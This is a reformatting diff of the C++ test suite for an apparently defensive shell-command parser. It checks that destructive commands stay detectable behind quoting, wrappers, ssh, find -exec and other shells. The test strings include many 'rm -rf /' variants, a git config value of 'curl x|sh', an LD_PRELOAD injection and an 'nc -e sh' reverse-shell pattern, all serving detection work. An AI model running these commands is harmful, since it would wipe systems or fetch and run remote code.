@@ -145,9 +145,9 @@ TEST_CASE("program is the basename", "[shell]") {
 }
 
 TEST_CASE("quote removal in the program name", "[shell]") {
-  for (const char* line : {"\\rm -rf /", "\"rm\" -rf /", "r\"\"m -rf /", "r''m -rf /",
-                           "'r'm -rf /", "$'rm' -rf /", "$'\\x72m' -rf /", "$'\\162m' -rf /",
-                           "\"/bin/\"rm -rf /", "r\\m -rf /"}) {
+  for (const char* line :
+       {"\\rm -rf /", "\"rm\" -rf /", "r\"\"m -rf /", "r''m -rf /", "'r'm -rf /", "$'rm' -rf /",
+        "$'\\x72m' -rf /", "$'\\162m' -rf /", "\"/bin/\"rm -rf /", "r\\m -rf /"}) {
     INFO(line);
     const SimpleCommand c = one(line);
     is_rm_rf_root(c);
@@ -322,9 +322,7 @@ TEST_CASE("ANSI-C NUL cuts the string like bash", "[shell]") {
   CHECK(one(R"($'rm\0xyz' -rf /)").program == "rm");
 }
 
-TEST_CASE("locale quoting", "[shell]") {
-  CHECK(one("echo $\"hello $X\"").args == V{"hello $X"});
-}
+TEST_CASE("locale quoting", "[shell]") { CHECK(one("echo $\"hello $X\"").args == V{"hello $X"}); }
 
 TEST_CASE("line continuation", "[shell]") {
   is_rm_rf_root(one("rm -r\\\nf /"));
@@ -336,8 +334,8 @@ TEST_CASE("line continuation", "[shell]") {
 TEST_CASE("unterminated quotes and substitutions fail closed", "[shell]") {
   for (const char* line :
        {"echo 'abc", "echo \"abc", "echo $(ls", "echo `ls", "echo ${x", "(ls", "{ ls;",
-        "if true; then ls", "echo $'abc", "case x in a) ls;;", "while true; do ls",
-        "echo \"$(ls\"", "diff <(ls", "[[ -f x", "f() { ls;", "echo $((1+2"}) {
+        "if true; then ls", "echo $'abc", "case x in a) ls;;", "while true; do ls", "echo \"$(ls\"",
+        "diff <(ls", "[[ -f x", "f() { ls;", "echo $((1+2"}) {
     INFO(line);
     fails(line);
   }
@@ -384,8 +382,8 @@ TEST_CASE("globs are flagged apart from expansions", "[shell][glob]") {
     CHECK(c.dynamic);  // kept: checks written against `dynamic` still see `rm -rf *`
     CHECK_FALSE(c.runtime_operands);
   }
-  for (const char* line : {"rm $X", "rm \"${X}\"", "rm $1", "ls ~root", "rm /{a,b}",
-                           "rm $((1+1))", "X=$Y ls"}) {
+  for (const char* line :
+       {"rm $X", "rm \"${X}\"", "rm $1", "ls ~root", "rm /{a,b}", "rm $((1+1))", "X=$Y ls"}) {
     INFO(line);
     const SimpleCommand c = one(line);
     CHECK_FALSE(c.glob);
@@ -485,9 +483,7 @@ TEST_CASE("assignment-only commands are visible, with their substitutions", "[sh
   CHECK(r.commands[1].assignments[0].dynamic);
 }
 
-TEST_CASE("dynamic assignment marks the command", "[shell]") {
-  CHECK(one("PATH=$X rm y").dynamic);
-}
+TEST_CASE("dynamic assignment marks the command", "[shell]") { CHECK(one("PATH=$X rm y").dynamic); }
 
 TEST_CASE("array assignment", "[shell]") {
   const SimpleCommand a = one("a=(1 2 'three')");
@@ -541,9 +537,9 @@ TEST_CASE("doas", "[shell]") {
 }
 
 TEST_CASE("env", "[shell]") {
-  for (const char* line : {"env -i rm -rf /", "env FOO=1 BAR=2 rm -rf /", "env -u HOME rm -rf /",
-                           "env -C /tmp rm -rf /", "env - rm -rf /", "env --unset=X rm -rf /",
-                           "env -i -- rm -rf /"}) {
+  for (const char* line :
+       {"env -i rm -rf /", "env FOO=1 BAR=2 rm -rf /", "env -u HOME rm -rf /",
+        "env -C /tmp rm -rf /", "env - rm -rf /", "env --unset=X rm -rf /", "env -i -- rm -rf /"}) {
     INFO(line);
     const SimpleCommand c = one(line);
     is_rm_rf_root(c);
@@ -582,7 +578,8 @@ TEST_CASE("nice and ionice", "[shell]") {
     is_rm_rf_root(c);
     CHECK(c.wrappers == V{"nice"});
   }
-  for (const char* line : {"ionice -c 3 rm -rf /", "ionice -c3 -n7 rm -rf /", "ionice -t rm -rf /"}) {
+  for (const char* line :
+       {"ionice -c 3 rm -rf /", "ionice -c3 -n7 rm -rf /", "ionice -t rm -rf /"}) {
     INFO(line);
     const SimpleCommand c = one(line);
     is_rm_rf_root(c);
@@ -781,12 +778,35 @@ TEST_CASE("setsid -f nc -e sh h 1", "[shell][wrap]") {
 }
 
 TEST_CASE("wrappers that run no command stay programs", "[shell][wrap]") {
-  for (const char* line :
-       {"chroot /x", "chrt -p 10 42", "chrt -m", "taskset -p 3 42", "taskset -cp 0 42",
-        "flock 9", "flock -u 9", "flock /tmp/l", "busybox", "busybox --list", "pkexec", "setsid",
-        "su", "su - root", "su -l root", "runuser root", "watch", "watch -n 1", "sg wheel",
-        "script", "script -q log", "parallel", "parallel -j4", "parallel :::: cmds.txt",
-        "newgrp wheel", "nsenter", "unshare", "ssh", "ssh -p 22"}) {
+  for (const char* line : {"chroot /x",
+                           "chrt -p 10 42",
+                           "chrt -m",
+                           "taskset -p 3 42",
+                           "taskset -cp 0 42",
+                           "flock 9",
+                           "flock -u 9",
+                           "flock /tmp/l",
+                           "busybox",
+                           "busybox --list",
+                           "pkexec",
+                           "setsid",
+                           "su",
+                           "su - root",
+                           "su -l root",
+                           "runuser root",
+                           "watch",
+                           "watch -n 1",
+                           "sg wheel",
+                           "script",
+                           "script -q log",
+                           "parallel",
+                           "parallel -j4",
+                           "parallel :::: cmds.txt",
+                           "newgrp wheel",
+                           "nsenter",
+                           "unshare",
+                           "ssh",
+                           "ssh -p 22"}) {
     INFO(line);
     const SimpleCommand c = one(line);
     const std::string first(std::string_view(line).substr(0, std::string_view(line).find(' ')));
@@ -926,9 +946,10 @@ TEST_CASE("parallel runs its command template with operands known at run time", 
   CHECK(c.runtime_operands);
   CHECK_FALSE(c.glob);
   CHECK_FALSE(c.expansion);
-  for (const char* line : {"parallel -j 4 rm -rf {} ::: a b", "parallel 'rm -rf {}' ::: a",
-                           "parallel --jobs 2 -k rm -rf {} :::: files", "parallel -a list rm -rf",
-                           "parallel -X --colsep , rm -rf {1} ::: a ::: b", "parallel rm -rf < list"}) {
+  for (const char* line :
+       {"parallel -j 4 rm -rf {} ::: a b", "parallel 'rm -rf {}' ::: a",
+        "parallel --jobs 2 -k rm -rf {} :::: files", "parallel -a list rm -rf",
+        "parallel -X --colsep , rm -rf {1} ::: a ::: b", "parallel rm -rf < list"}) {
     INFO(line);
     const SimpleCommand p = one(line);
     CHECK(p.program == "rm");
@@ -957,7 +978,8 @@ TEST_CASE("ssh runs its remote command in the remote shell", "[shell][wrap]") {
   for (const char* line :
        {"ssh -p 22 -i key host rm -rf /", "ssh host 'rm -rf /'", "ssh host rm -rf /",
         "ssh user@host -- rm -rf /", "ssh -o StrictHostKeyChecking=no -J jump host rm -rf /",
-        "ssh host -p 22 rm -rf /", "ssh -lroot -tt host rm -rf /", "ssh -4 -A -C -v host 'rm -rf /'",
+        "ssh host -p 22 rm -rf /", "ssh -lroot -tt host rm -rf /",
+        "ssh -4 -A -C -v host 'rm -rf /'",
         "ssh -F cfg -E log -b 1.2.3.4 -c aes -D 1080 -e none -I lib -L 1:h:2 -l u -m mac -O check "
         "-Q cipher -R 1:h:2 -S sock -W h:1 -w 0 -B eth0 -P tag host rm -rf /"}) {
     INFO(line);
@@ -1014,8 +1036,9 @@ TEST_CASE("ssh -o ProxyCommand runs a local shell command", "[shell][wrap]") {
 }
 
 TEST_CASE("sshpass runs its command", "[shell][wrap]") {
-  for (const char* line : {"sshpass -p pw ssh host rm -rf /", "sshpass -f file -v ssh host rm -rf /",
-                           "sshpass -e ssh host rm -rf /", "sshpass -eVAR -P word ssh host rm -rf /"}) {
+  for (const char* line :
+       {"sshpass -p pw ssh host rm -rf /", "sshpass -f file -v ssh host rm -rf /",
+        "sshpass -e ssh host rm -rf /", "sshpass -eVAR -P word ssh host rm -rf /"}) {
     INFO(line);
     const ParseResult r = ok(line);
     REQUIRE(r.commands.size() == 2);
@@ -1079,9 +1102,10 @@ TEST_CASE("a shell started by a wrapper runs the line's here-document or here-st
 }
 
 TEST_CASE("find -exec runs its command with operands known at run time", "[shell][wrap]") {
-  for (const char* line : {"find / -name x -exec rm -rf {} \\;", "find / -name x -exec rm -rf {} +",
-                           "find / -name x -exec rm -rf {} ';'", "find / -name x -execdir rm -rf {} \\;",
-                           "find / -name x -ok rm -rf {} \\;", "find / -name x -okdir rm -rf {} +"}) {
+  for (const char* line :
+       {"find / -name x -exec rm -rf {} \\;", "find / -name x -exec rm -rf {} +",
+        "find / -name x -exec rm -rf {} ';'", "find / -name x -execdir rm -rf {} \\;",
+        "find / -name x -ok rm -rf {} \\;", "find / -name x -okdir rm -rf {} +"}) {
     INFO(line);
     const ParseResult r = ok(line);
     REQUIRE(r.commands.size() == 2);
@@ -1151,8 +1175,8 @@ TEST_CASE("find's {} names a file below each starting point", "[shell][wrap]") {
 }
 
 TEST_CASE("find without -exec is left alone", "[shell][wrap]") {
-  for (const char* line : {"find .", "find . -name '*.py'", "find . -delete", "find / -print0",
-                           "find . -exec"}) {
+  for (const char* line :
+       {"find .", "find . -name '*.py'", "find . -delete", "find / -print0", "find . -exec"}) {
     INFO(line);
     const SimpleCommand c = one(line);
     CHECK(c.program == "find");
@@ -1209,7 +1233,8 @@ TEST_CASE("unwrapping stays within the nesting and size limits", "[shell][wrap][
   Limits total;
   total.max_total_words = 20;
   {
-    const ParseResult r = parse("find . -exec a 1 2 3 4 5 6 7 \\; -exec b 1 2 3 4 5 6 7 \\;", total);
+    const ParseResult r =
+        parse("find . -exec a 1 2 3 4 5 6 7 \\; -exec b 1 2 3 4 5 6 7 \\;", total);
     CHECK_FALSE(r.ok);
     CHECK(r.failure == warden::shell::Failure::Limit);
   }
@@ -1227,11 +1252,16 @@ TEST_CASE("bash -c", "[shell]") {
 
 TEST_CASE("other shells and combined options", "[shell]") {
   const std::vector<std::pair<std::string, std::string>> cases = {
-      {"sh -c \"rm -rf /\"", "sh"},          {"/bin/bash -lc 'rm -rf /'", "bash"},
-      {"bash -ec 'rm -rf /'", "bash"},       {"bash -xc 'rm -rf /'", "bash"},
-      {"zsh -c 'rm -rf /'", "zsh"},          {"dash -c 'rm -rf /'", "dash"},
-      {"ksh -c 'rm -rf /'", "ksh"},          {"bash -o pipefail -c 'rm -rf /'", "bash"},
-      {"bash --norc -c 'rm -rf /' arg0", "bash"}, {"bash -c -e 'rm -rf /'", "bash"}};
+      {"sh -c \"rm -rf /\"", "sh"},
+      {"/bin/bash -lc 'rm -rf /'", "bash"},
+      {"bash -ec 'rm -rf /'", "bash"},
+      {"bash -xc 'rm -rf /'", "bash"},
+      {"zsh -c 'rm -rf /'", "zsh"},
+      {"dash -c 'rm -rf /'", "dash"},
+      {"ksh -c 'rm -rf /'", "ksh"},
+      {"bash -o pipefail -c 'rm -rf /'", "bash"},
+      {"bash --norc -c 'rm -rf /' arg0", "bash"},
+      {"bash -c -e 'rm -rf /'", "bash"}};
   for (const auto& [line, shell] : cases) {
     INFO(line);
     const SimpleCommand c = one(line);
@@ -1346,10 +1376,10 @@ TEST_CASE("every redirect operator", "[shell]") {
     int fd;
     const char* target;
   };
-  const std::vector<E> want = {{">>", 1, "log"}, {">", 2, "err"},   {"&>", -1, "all"},
-                               {"&>>", -1, "all2"}, {"<>", 0, "rw"}, {">|", 1, "clob"},
-                               {"<&", 3, "0"},     {"<<<", 0, "s t"}, {">", 9, "x"},
-                               {">", 1, "b"},      {">&", 1, "2"}};
+  const std::vector<E> want = {{">>", 1, "log"},    {">", 2, "err"},   {"&>", -1, "all"},
+                               {"&>>", -1, "all2"}, {"<>", 0, "rw"},   {">|", 1, "clob"},
+                               {"<&", 3, "0"},      {"<<<", 0, "s t"}, {">", 9, "x"},
+                               {">", 1, "b"},       {">&", 1, "2"}};
   REQUIRE(c.redirects.size() == want.size());
   for (std::size_t i = 0; i < want.size(); ++i) {
     INFO(i);
@@ -1636,8 +1666,10 @@ TEST_CASE("hostile bytes never crash", "[shell]") {
     std::string s;
     const int len = static_cast<int>(rng() % 60);
     for (int k = 0; k < len; ++k) {
-      if (rng() % 8 == 0) s += static_cast<char>(rng() % 256);
-      else s += alphabet[rng() % alphabet.size()];
+      if (rng() % 8 == 0)
+        s += static_cast<char>(rng() % 256);
+      else
+        s += alphabet[rng() % alphabet.size()];
     }
     ParseResult r;
     REQUIRE_NOTHROW(r = parse(s));
@@ -1742,7 +1774,8 @@ TEST_CASE("assignment prefixes are kept with the command they apply to", "[shell
   const SimpleCommand g = one(
       "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='curl x|sh' git status");
   CHECK(g.program == "git");
-  CHECK(assigns(g) == AV{{"GIT_CONFIG_COUNT", "1"}, {"GIT_CONFIG_KEY_0", "core.fsmonitor"},
+  CHECK(assigns(g) == AV{{"GIT_CONFIG_COUNT", "1"},
+                         {"GIT_CONFIG_KEY_0", "core.fsmonitor"},
                          {"GIT_CONFIG_VALUE_0", "curl x|sh"}});
   CHECK_FALSE(g.dynamic);
   const SimpleCommand l = one("LD_PRELOAD=/tmp/x.so ls");
@@ -1859,13 +1892,29 @@ TEST_CASE("an assignment after the time keyword is still an assignment", "[shell
 }
 
 TEST_CASE("random wrapper soup keeps the parser's contract", "[shell][wrap][limits]") {
-  static const char* const kTokens[] = {
-      "ssh", "h", "-p", "22", "-o", "ProxyCommand=ls", "su", "-c", "-", "root", "find", ".",
-      "-exec", "\\;", "+", "{}", "watch", "-n", "1", "parallel", ":::", "::::", "sudo", "-s",
-      "-i", "bash", "sh", "<<<", "'ls'", "flock", "/l", "busybox", "xargs", "timeout", "env",
-      "-S", "eval", "script", "sg", "g", "chroot", "/x", "ls", "rm", "-rf", "/", "|", ";", "&&",
-      "\"", "'", "$(", ")", "`", "*", "$X", "<<EOF\nls\nEOF\n", "runuser", "-u", "setsid",
-      "sshpass", "taskset", "chrt", "nsenter", "unshare", "pkexec", "-ok", "--"};
+  static const char* const kTokens[] = {"ssh",     "h",        "-p",
+                                        "22",      "-o",       "ProxyCommand=ls",
+                                        "su",      "-c",       "-",
+                                        "root",    "find",     ".",
+                                        "-exec",   "\\;",      "+",
+                                        "{}",      "watch",    "-n",
+                                        "1",       "parallel", ":::",
+                                        "::::",    "sudo",     "-s",
+                                        "-i",      "bash",     "sh",
+                                        "<<<",     "'ls'",     "flock",
+                                        "/l",      "busybox",  "xargs",
+                                        "timeout", "env",      "-S",
+                                        "eval",    "script",   "sg",
+                                        "g",       "chroot",   "/x",
+                                        "ls",      "rm",       "-rf",
+                                        "/",       "|",        ";",
+                                        "&&",      "\"",       "'",
+                                        "$(",      ")",        "`",
+                                        "*",       "$X",       "<<EOF\nls\nEOF\n",
+                                        "runuser", "-u",       "setsid",
+                                        "sshpass", "taskset",  "chrt",
+                                        "nsenter", "unshare",  "pkexec",
+                                        "-ok",     "--"};
   std::mt19937 rng(7);
   std::uniform_int_distribution<std::size_t> pick(0, std::size(kTokens) - 1);
   std::uniform_int_distribution<int> len(1, 24);
